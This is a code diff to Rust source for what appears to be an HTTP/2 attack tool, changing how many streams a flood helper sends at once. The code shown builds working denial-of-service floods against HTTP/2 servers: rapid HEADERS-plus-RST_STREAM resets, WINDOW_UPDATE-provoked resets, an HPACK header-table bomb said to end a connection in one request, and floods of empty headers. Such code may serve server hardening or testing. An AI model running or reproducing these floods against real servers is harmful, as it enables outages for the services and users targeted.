@@ -74,11 +74,11 @@ pub async fn bodies_that_never_come(me: &Attacker) -> io::Result<()> {
 }
 
 /// Sends what `each` makes of the id of a stream, for one stream after the other.
-async fn by_stream(me: &Attacker, each: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
+async fn by_stream(me: &Attacker, at_once: usize, each: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
     let connection = me.http2(65_535).await?;
     let mut ids = streams();
-    let flood = || ids.by_ref().take(AT_ONCE).flat_map(&each).collect::<Vec<u8>>();
-    connection.flood(flood, || me.did(AT_ONCE)).await
+    let flood = || ids.by_ref().take(at_once).flat_map(&each).collect::<Vec<u8>>();
+    connection.flood(flood, || me.did(at_once)).await
 }
 
 /// Sends a request, then the same frames again and again.
@@ -94,7 +94,7 @@ fn stream_request(me: &Attacker) -> Vec<u8> {
 
 pub async fn rapid_reset(me: &Attacker) -> io::Result<()> {
     let asked = stream_request(me);
-    by_stream(me, |stream| {
+    by_stream(me, AT_ONCE, |stream| {
         let mut frames = frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked);
         frames.extend(frame(wire::RST_STREAM, 0, stream, &wire::CANCEL.to_be_bytes()));
         frames
@@ -104,7 +104,7 @@ pub async fn rapid_reset(me: &Attacker) -> io::Result<()> {
 
 pub async fn provoked_resets(me: &Attacker) -> io::Result<()> {
     let asked = stream_request(me);
-    by_stream(me, |stream| {
+    by_stream(me, AT_ONCE, |stream| {
         let mut frames = frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked);
         frames.extend(frame(wire::WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes()));
         frames
@@ -115,14 +115,15 @@ pub async fn provoked_resets(me: &Attacker) -> io::Result<()> {
 pub async fn hpack_bomb(me: &Attacker) -> io::Result<()> {
     // The table has 4,096 bytes, 32 of which an entry takes for itself.
     let bomb = [stream_request(me), wire::bomb(&"v".repeat(4000), 10_000)].concat();
-    by_stream(me, |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &bomb)).await
+    // One ends the connection.
+    by_stream(me, 1, |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &bomb)).await
 }
 
 pub async fn empty_headers(me: &Attacker) -> io::Result<()> {
     let mut lines = me.lines(0, "GET", "cursor");
     lines.resize(lines.len() + 1000, ("", String::new()));
     let asked = block(&lines);
-    by_stream(me, |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked)).await
+    by_stream(me, AT_ONCE, |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked)).await
 }
 
 pub async fn continuation(me: &Attacker) -> io::Result<()> {
